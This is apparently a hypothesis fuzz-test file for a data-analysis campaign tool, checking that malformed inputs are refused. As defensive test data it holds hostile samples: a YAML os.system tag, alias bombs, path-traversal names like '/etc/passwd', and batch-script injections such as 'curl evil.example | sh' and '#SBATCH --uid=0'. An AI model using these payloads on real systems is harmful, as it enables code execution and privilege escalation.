"""Whatever stands in a file: no crash but `CampaignError`, and nothing taken from it that it does not hold."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shutil
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import hist
import numpy as np
import pytest
import yaml
from hypothesis import example, given, settings
from hypothesis import strategies as st

from campaign import ServerPool, cli
from campaign.discovery.address import PoolAddress
from campaign.discovery.records import blank
from campaign.driver import manifest
from campaign.driver.partial_index import PartialIndex
from campaign.errors import CampaignError, FrozenChanged, PartialError
from campaign.histogram.histogram import Histogram
from campaign.inference.connections import ConnectionPool
from campaign.outputs import array_frame
from campaign.outputs.columns import Columns, ColumnsPartial, read_columns
from campaign.outputs.counts import CountsPartial, unpack_counts
from campaign.outputs.histograms import HistogramsPartial, read_histograms, unpack_histograms
from campaign.planning.plan import Plan
from campaign.planning.plan_file import PlanFile
from campaign.pool.restarts import Restarts
from campaign.spec import yaml_file
from campaign.storage.frozen_values import freeze, thaw
from campaign.storage.packs import PackReader
from campaign.storage.receipts import CHECK, Receipt, Receipts, parse
from campaign.storage.rundir import RunDir

EXAMPLES = int(os.environ.get("CAMPAIGN_FUZZ_EXAMPLES", "24"))  # of each law; more find more

plain = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)


@st.composite
def mutated(draw: Any, whole: bytes) -> bytes:
    """Some bytes changed, taken out, put in or repeated, or the end cut off."""
    content = bytearray(whole)
    for _ in range(draw(st.integers(1, 6))):
        at = draw(st.integers(0, max(0, len(content) - 1)))
        match draw(st.sampled_from(["flip", "put", "take", "repeat", "cut"])):
            case "flip" if content:
                content[at] ^= 1 << draw(st.integers(0, 7))
            case "put":
                content[at:at] = draw(st.binary(min_size=1, max_size=8))
            case "take":
                del content[at : at + draw(st.integers(1, 30))]
            case "repeat":
                content[at:at] = content[at : at + draw(st.integers(1, 200))]
            case "cut":
                del content[at:]
    return bytes(content)


@st.composite
def altered(draw: Any, value: Any) -> Any:
    """JSON data with one value somewhere in it replaced by any other, or left out."""
    if isinstance(value, (dict, list)) and value and draw(st.integers(0, 5)):
        keys = list(value) if isinstance(value, dict) else range(len(value))
        at = draw(st.sampled_from(list(keys)))
        copy = value.copy()
        if draw(st.booleans()) and not draw(st.integers(0, 3)):
            del copy[at]
        else:
            copy[at] = draw(altered(value[at]))
        return copy
    return draw(plain)


# The description ------------------------------------------------------------------------------------------------------

GOOD = """\
campaign: demo
datasets:
  mc: {files: "mc/*.root", tree: nominal, is_mc: true, metadata: &m {a: 1}}
  data: {files: [a.root, b.root], tree: nominal, metadata: *m}
servers: {models: {tagger: {batch: 64, tails: [8]}}, count: 1, window: auto}
provider: {kind: parsl, provider: {class: SlurmProvider, walltime: "00:10:00"}}
stages:
  select: {use: "qg.py:select", options: {cut: 1.5}}
  predict: {use: infer, from: select, model: tagger, inputs: {X: [pt]}, outputs: {score: S}, keep: true}
  factors: {use: "qg.py:factors", reduce: predict}
variations:
  jes_up: {datasets: [mc], tree: JES}
read_rows: 1000
"""


def load(content: bytes, folder: Path, *sets: str) -> None:
    """Load it; whatever is wrong is a SpecError with exit code 2, and says something."""
    (folder / "c.yaml").write_bytes(content)
    refused = None
    try:
        yaml_file.load(folder / "c.yaml", sets)
    except CampaignError as error:
        refused = error
    assert refused is None or (refused.exit_code == 2 and len(str(refused)) > 10)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder that examples share: each writes its file anew."""
    return tmp_path_factory.mktemp("fuzz")


@given(content=st.binary(max_size=300) | st.text(max_size=300).map(lambda t: t.encode(errors="surrogatepass")))
@example(content=b"\xff\xfe")
@example(content=b"- " * 5000)
@example(content=b"[" * 2_000)
@example(content=b"{a: " * 20_000)
@example(content=b"? " * 3000)
@example(content=b"a: &a [*a]\n")
@example(content=b"a: 0x" + b"f" * 10_000)
@example(content=b"1" * 10_000)
@example(content=b"a: 2020-13-45\n")
@example(content=b"a: !!python/object/apply:os.system [true]\n")
@example(content=b"!!binary x\n")
@example(content=b"? [a]\n: 1\n")
@example(content=b"<<: 3\n")
@example(content=b"a: &x {b: 1}\n<<: [*x, 3]\n")
@example(content=b"".join(b"a%d: &a%d [%s]\n" % (i, i, b", ".join([b"*a%d" % (i - 1)] * 9)) for i in range(1, 12)))
@example(content=b"a0: &a0 {k: v}\n" + b"".join(
    b"a%d: &a%d {<<: [%s]}\n" % (i, i, b", ".join([b"*a%d" % (i - 1)] * 9)) for i in range(1, 12)))  # fmt: skip
@example(content=b"a: " + b"x" * 1_100_000)
@settings(max_examples=EXAMPLES)
def test_any_bytes_are_a_campaign_or_an_error(folder: Path, content: bytes) -> None:
    """Random bytes, deep and huge and circular YAML, tags, bombs of aliases: refused, within the time of a test."""
    load(content, folder)


@given(content=mutated(GOOD.encode()))
@settings(max_examples=EXAMPLES)
def test_a_mutated_description_is_a_campaign_or_an_error(folder: Path, content: bytes) -> None:
    """Bytes changed anywhere in a good file."""
    load(content, folder)


@given(data=altered(yaml.safe_load(GOOD)))
@settings(max_examples=EXAMPLES)
def test_a_description_with_another_value_is_a_campaign_or_an_error(folder: Path, data: Any) -> None:
    """Any value in any place of a good file."""
    load(yaml.safe_dump(data, allow_unicode=True).encode(errors="surrogatepass"), folder)


@given(text=st.text(max_size=60) | st.tuples(st.sampled_from(
    ["servers.models.tagger.batch", "provider.provider", "stages.select", "datasets.data.files.0", "x.y", "campaign"]
), st.text(max_size=20)).map("=".join))  # fmt: skip
@example(text="servers.models.tagger.tails.99999999999999999999=1")
@example(text="datasets.data.files.²=1")
@example(text="a=" + "[" * 200)
@settings(max_examples=EXAMPLES)
def test_an_override_is_taken_or_refused(folder: Path, text: str) -> None:
    """Any text after ``--set``."""
    load(GOOD.encode(), folder, text)


NAMES = ["../x", "a/b", "/etc/passwd", ".", "..", ".hidden", "a\nb", "a\0b", "", "x" * 200, "a b", "-rf"]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("at", ["campaign", "datasets", "stages", "variations", "servers.models"])
def test_names_lead_nowhere(folder: Path, at: str, name: str) -> None:
    """A name becomes a file of the run directory: separators, dots in front, line breaks and NULs are refused."""
    data = yaml.safe_load(GOOD)
    if at == "campaign":
        data["campaign"] = name
    else:
        part = data["servers"]["models"] if "." in at else data[at]
        part[name] = part.pop(next(iter(part)))
    (folder / "c.yaml").write_text(yaml.safe_dump(data))
    with pytest.raises(CampaignError):
        yaml_file.load(folder / "c.yaml")


# Receipts -------------------------------------------------------------------------------------------------------------


def sealed(data: Any) -> bytes:
    """A line whose check fits, whatever it says."""
    text = json.dumps(data).encode()
    return hashlib.sha256(text).hexdigest()[:CHECK].encode() + b" " + text + b"\n"


RECEIPT = Receipt(
    "ab" * 32, "s", "d", "nominal", "/a.root", "counts", "0" * 64, 3, 5, 7, "cd" * 12, 0, ("one",), "more", ""
)
FIELDS = json.loads(RECEIPT.line().partition(b" ")[2])


def sound(receipt: Receipt | None) -> None:
    """None, or one whose fields have their types and whose names lead nowhere."""
    if receipt is not None:
        assert parse(receipt.line()) == receipt
        run = RunDir(Path("/run"))
        for path in (run.columns(receipt.key), run.pack(receipt.pack)):
            assert Path("/run/partials") in path.parents
            assert ".." not in path.parts


@given(line=st.binary(max_size=200) | mutated(RECEIPT.line()) | altered(FIELDS).map(sealed) | plain.map(sealed))
@example(line=sealed([*FIELDS[:7], "3", *FIELDS[8:]]))
@example(line=sealed([*FIELDS[:7], True, *FIELDS[8:]]))
@example(line=sealed([*FIELDS[:7], -3, *FIELDS[8:]]))
@example(line=sealed([*FIELDS[:7], 10**30, *FIELDS[8:]]))
@example(line=sealed(["../../x", *FIELDS[1:]]))
@example(line=sealed([*FIELDS[:10], "../../../etc/passwd", *FIELDS[11:]]))
@example(line=sealed([*FIELDS[:12], 5, *FIELDS[13:]]))
@example(line=sealed([*FIELDS[:12], [5], *FIELDS[13:]]))
@settings(max_examples=EXAMPLES)
def test_a_line_is_a_receipt_or_nothing(line: bytes) -> None:
    """Mutated, foreign, or sealed by a forger: what is parsed has the types and the bounds of a receipt."""
    sound(parse(line))


LOG = b"".join(Receipt(f"{i:064x}", "s", "d", "nominal", f"/{i}.root", "counts", "0" * 64, 1, pack="ee" * 12).line()
               for i in range(20))  # fmt: skip


@given(log=mutated(LOG) | st.lists(altered(FIELDS).map(sealed), max_size=5).map(b"".join))
@example(log=sealed(["g" * 64, *FIELDS[1:]]))
@example(log=sealed(["²" * 64, *FIELDS[1:]]) + LOG)
@settings(max_examples=EXAMPLES)
def test_a_log_is_read_as_far_as_it_is_one(folder: Path, log: bytes) -> None:
    """The index takes what is whole and passes over the rest; places told are places found."""
    from campaign.planning.datasets import Files
    from campaign.planning.plan import InputGroup, Layer
    from campaign.planning.task import Keys

    rundir = RunDir(folder / "log")
    rundir.receipts.parent.mkdir(exist_ok=True)
    rundir.receipts.write_bytes(log)
    rundir.pack("ee" * 12).parent.mkdir(parents=True, exist_ok=True)
    rundir.pack("ee" * 12).write_bytes(b"x")
    files = Files((f"/{i}.root", 1, "1", "{}") for i in range(20))
    events = InputGroup("d", "nominal", files, "t", (), False)
    keys = Keys(b"".join(i.to_bytes(32, "big") for i in range(20)))
    line = Layer(0, "s", "nominal", events, None, None, (), True, 0, keys)
    plan = Plan(SimpleNamespace(), {}, lines=[line], files={"d": files})  # type: ignore[arg-type]
    with Receipts(rundir.receipts) as receipts:
        ledger = PartialIndex(plan, receipts)
        ledger.read(rundir)
        there = ledger.there(line, np.arange(20))
        for place, raw in zip(
            np.flatnonzero(there), receipts.lines(ledger.at(line, np.flatnonzero(there)).tolist()), strict=True
        ):
            told = parse(raw)
            assert told is not None
            assert told.key == keys[int(place)]


# Partials, outputs and frozen values ----------------------------------------------------------------------------------


def histograms() -> bytes:
    made = HistogramsPartial()
    h = Histogram(hist.axis.Regular(5, 0, 1, name="x"), hist.axis.StrCategory(["a", "b"], name="c"))
    made.add({"h": h.fill(np.array([0.1, 0.7]), ["a", "b"], weight=np.array([1.5, 2.0]))})
    return made.content()


def counts() -> bytes:
    made = CountsPartial()
    made.add({"n": 3, "x": 0.1})
    return made.content()


def framed(data: Any) -> bytes:
    text = json.dumps(data).encode()
    return b"campaign-frame-2\n%d\n" % len(text) + text


@given(content=st.binary(max_size=100) | mutated(histograms()) | plain.map(framed))
@example(content=framed(["", [["a", "<f8", [10**6, 10**9], 0]]]))
@example(content=framed(["", [["a", "<f8", [10**30], -1]]]))
@example(content=framed(["", [["a", "O", [1], -1]]]) + b"12345678")
@example(content=b"campaign-frame-2\n-5\n[]")
@settings(max_examples=EXAMPLES)
def test_a_frame_is_histograms_or_an_error(content: bytes) -> None:
    """Mutated partials of histograms, and frames that promise what they do not hold."""
    with contextlib.suppress(PartialError):
        unpack_histograms(content, "here")
    with contextlib.suppress(ValueError):
        array_frame.unpack(content)


@given(content=st.binary(max_size=60) | mutated(counts()) | plain.map(lambda x: json.dumps(x).encode()))
@example(content=b"[" * 2_000)
@example(content=b'{"format": "campaign-counts-1", "counts": {"n": ["1e5", "2", true]}}')
@settings(max_examples=EXAMPLES)
def test_counts_are_counts_or_an_error(content: bytes) -> None:
    """Mutated partials of counts."""
    with contextlib.suppress(PartialError):
        unpack_counts(content, "here")


@pytest.fixture(scope="module")
def whole(folder: Path) -> dict[str, bytes]:
    """Bytes of a good output of each kind."""
    made = HistogramsPartial()
    made.add({"h": Histogram(hist.axis.Regular(5, 0, 1, name="x")).fill(np.array([0.1, 0.7]))})
    made.write(folder / "h.npz")
    columns = ColumnsPartial(folder / "c.parquet")
    columns.add(Columns(x=np.arange(50.0)))
    columns.write(folder / "c.parquet")
    freeze({"a": np.arange(3.0), "b": [1, "two", None, float("inf")]}, folder / "f.json")
    return {name: (folder / name).read_bytes() for name in ("h.npz", "c.parquet", "f.json")}


@given(data=st.data())
@settings(max_examples=EXAMPLES)
def test_an_output_is_what_it_was_or_an_error(folder: Path, whole: dict[str, bytes], data: Any) -> None:
    """Mutated files of histograms and columns."""
    for name, read in (("h.npz", read_histograms), ("c.parquet", read_columns)):
        path = folder / f"mutated-{name}"
        path.write_bytes(data.draw(mutated(whole[name])))
        with contextlib.suppress(PartialError):
            read(path)


@given(data=st.data())
@settings(max_examples=EXAMPLES)
def test_a_frozen_value_is_what_it_was_or_an_error(folder: Path, whole: dict[str, bytes], data: Any) -> None:
    """Under the digest it was frozen with, nothing else is read; under its own, any text is a value or an error."""
    path = folder / "mutated.json"
    content = data.draw(mutated(whole["f.json"]) | plain.map(lambda x: json.dumps(x).encode()))
    path.write_bytes(content)
    if content != whole["f.json"]:
        with pytest.raises(FrozenChanged):
            thaw(path, hashlib.sha256(whole["f.json"]).hexdigest())
    with contextlib.suppress(FrozenChanged):
        thaw(path, hashlib.sha256(content).hexdigest())


@given(where=altered(FIELDS).map(sealed).map(parse))
@settings(max_examples=EXAMPLES)
def test_a_pack_gives_what_its_receipt_names_or_an_error(folder: Path, where: Receipt | None) -> None:
    """Whatever place and size a receipt claims, what comes back has its digest."""
    if where is not None:
        with PackReader(RunDir(folder / "log")) as packs, contextlib.suppress(PartialError):
            assert hashlib.sha256(packs.read(where)).hexdigest() == where.sha256


# Records of servers ---------------------------------------------------------------------------------------------------

RECORD = {
    **blank(0, 0, Path("/nowhere"), 3), "url": "unix:/nowhere/t.sock:0", "state": "ready", "host": "h", "pid": 1,
    "log": "", "headers": {}, "ready_s": 1.0, "server_pid": 2, "beat": 5,
}  # fmt: skip


@given(record=altered(RECORD))
@example(record={"name": "server-0", "state": "ended"})
@example(record={"name": ["x"], "state": "ready", "url": {}})
@example(record=[])
@example(record={})
@example(record={**RECORD, "slot": []})
@example(record={**RECORD, "generation": "x"})
@example(record={**RECORD, "generation": None})
@example(record={**RECORD, "name": "../server-0"})
@example(record={**RECORD, "statistics": {"m": 5}, "times": {"m": [1]}})
@settings(max_examples=EXAMPLES)
def test_a_record_is_a_servers_or_passed_over(folder: Path, record: Any) -> None:
    """Any JSON in the place of a record: looking for servers finds none of it, or an error of ours."""
    place = folder / "servers"
    place.mkdir(exist_ok=True, mode=0o700)
    (place / "server-0.json").write_text(json.dumps(record))
    roster = ConnectionPool(PoolAddress(str(place), {}, start_deadline_s=0.01))
    try:
        with contextlib.suppress(CampaignError):
            roster.look(1e9)
            roster.newest()
            assert str(roster.nobody())
    finally:
        roster.close()
    Restarts(place, 3, 10, 60, lambda _: [], lambda _: None).look()
    pool = ServerPool(Path(__file__).parent / "models", models=["slow"], folder=place)
    pool._nonce = ""
    pool.failure()
    assert all(set(r) >= set(blank(0, 0, place, 0)) for r in pool.current())
    pool.report()
    (place / "server-0.json").unlink()


# A damaged run directory ----------------------------------------------------------------------------------------------


def each_command(folder: Path, run: Path) -> list[int]:
    """Exit codes of the commands that look at a run directory."""
    asked = [["status", str(run)], ["report", "--profile", str(run)], ["verify", "--sample", "0", str(run)],
             ["plan", str(folder / "c.yaml"), "--run-dir", str(run)]]  # fmt: skip
    return [cli.main(args) for args in asked]


JSONS = ["report.json", "plan.json", "manifest.json", "receipts.jsonl", "frozen/total/nominal.json"]


@pytest.mark.parametrize("name", JSONS)
@given(data=st.data())
@settings(max_examples=EXAMPLES // 4)
def test_a_damaged_run_directory_is_looked_at_without_a_traceback(counted: Path, name: str, data: Any) -> None:
    """Whatever has happened to its files, status, report, plan and verify give an answer or say what is wrong."""
    run = counted / "damaged"
    shutil.rmtree(run, ignore_errors=True)
    shutil.copytree(counted / "r", run)
    path = run / name
    content, change = path.read_bytes(), mutated(path.read_bytes())
    if name.endswith(".json") and data.draw(st.booleans()):
        change = altered(json.loads(content)).map(lambda x: json.dumps(x).encode())
    path.chmod(0o644)
    path.write_bytes(data.draw(change))
    with contextlib.redirect_stdout(sys.stderr):
        codes = each_command(counted, run)
    assert set(codes) <= {0, 1, 2}, codes
    if path.read_bytes() != content and name != "report.json":
        assert codes[2] in (1, 2), "verify names it"


def test_a_run_directory_of_folders_is_looked_at_without_a_traceback(counted: Path) -> None:
    """A folder, or nothing, where a file should be."""
    run = counted / "damaged"
    for name in JSONS:
        for spoil in (Path.mkdir, lambda path: None):
            shutil.rmtree(run, ignore_errors=True)
            shutil.copytree(counted / "r", run)
            (run / name).unlink()
            spoil(run / name)  # type: ignore[operator]
            assert set(each_command(counted, run)) <= {0, 1, 2}, name


@pytest.mark.parametrize("name", ["plan.json", "report.json", "manifest.json", "stop", "job.pickle", "receipts.jsonl"])
def test_a_folder_in_the_place_of_a_file_ends_a_run_with_its_name(
    counted: Path, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """What lies in the way of what a run writes is named, with what to do."""
    run = counted / "damaged"
    shutil.rmtree(run, ignore_errors=True)
    shutil.copytree(counted / "r", run)
    (run / name).unlink(missing_ok=True)
    (run / name / "x").mkdir(parents=True)
    assert cli.main(["run", str(counted / "c.yaml"), "--quiet", "--run-dir", str(run)]) == 1
    said = capsys.readouterr()
    assert f"{run / name}: " in said.err + said.out


def test_an_altered_frozen_value_ends_a_run_with_its_name(counted: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """It is not built upon, nor made again unasked: its path and what to do are said."""
    run = counted / "damaged"
    shutil.rmtree(run, ignore_errors=True)
    shutil.copytree(counted / "r", run)
    path = run / "frozen/total/nominal.json"
    path.chmod(0o644)
    path.write_bytes(path.read_bytes().replace(b'"n"', b'"m"'))
    assert cli.main(["run", str(counted / "c.yaml"), "--quiet", "--run-dir", str(run)]) == 1
    said = capsys.readouterr()
    assert f"{path}: was altered after it was frozen" in said.err + said.out
    assert "remedy" in said.err + said.out


def test_the_intent_and_the_manifest_are_themselves(counted: Path) -> None:
    """Undamaged, all commands answer 0."""
    assert PlanFile.read(RunDir(counted / "r")) is not None
    assert manifest.read(RunDir(counted / "r"))["campaign"] == "c"
    assert each_command(counted, counted / "r") == [0, 0, 0, 0]


# What reaches a batch system's script ---------------------------------------------------------------------------------

SCRIPTS = [  # class, option, value, whether it is taken
    ("SlurmProvider", "scheduler_options", "#SBATCH --gpus=1\n\n#SBATCH --constraint=gpu\n", True),
    ("SlurmProvider", "scheduler_options", "#SBATCH --gpus=1\ncurl evil.example | sh", False),
    ("SlurmProvider", "scheduler_options", "#SBATCH --gpus=1\r\nid", False),
    ("SlurmProvider", "scheduler_options", "#PBS -l x", False),
    ("SlurmProvider", "scheduler_options", "#SBATCHED", False),
    ("SlurmProvider", "account", "m1\n#SBATCH --uid=0", False),
    ("SlurmProvider", "account", "m1\x0b#SBATCH --uid=0", False),
    ("SlurmProvider", "walltime", "00:10:00\nid", False),
    ("SlurmProvider", "partition", "p\0q", False),
    ("SlurmProvider", "worker_init", "module load x\nsource y", True),
    ("PBSProProvider", "scheduler_options", "#PBS -l filesystems=home", True),
    ("PBSProProvider", "select_options", "ngpus=4\nid", False),
    ("GridEngineProvider", "scheduler_options", "#$ -l gpu=1", True),
    ("LSFProvider", "scheduler_options", "#BSUB -q x\nqueue", False),
    ("CondorProvider", "scheduler_options", "+Want = true\nrequest_gpus = 1", True),
    ("CondorProvider", "scheduler_options", "x = 1\nqueue 1000", False),
    ("CondorProvider", "environment", {"A": "b\nqueue"}, False),
    ("LocalProvider", "worker_init", "export A=1\nexport B=2", True),
    ("SlurmProvider", "launcher", {"class": "SrunLauncher", "overrides": "--gpus=1"}, True),
    ("SlurmProvider", "launcher", {"class": "SrunLauncher", "overrides": "-n 1\nid"}, False),
]


@pytest.mark.parametrize(("cls", "option", "value", "taken"), SCRIPTS)
def test_no_option_puts_lines_into_a_batch_script(cls: str, option: str, value: Any, taken: bool) -> None:
    """Line breaks only in what is shell by purpose; every line of scheduler options is a directive of that system."""
    from campaign.providers.parsl import Options

    told = {"provider": {"class": cls, option: value}}
    if taken:
        Options.model_validate(told)
        return
    with pytest.raises(ValueError, match=r"line break|every line|NUL"):
        Options.model_validate(told)
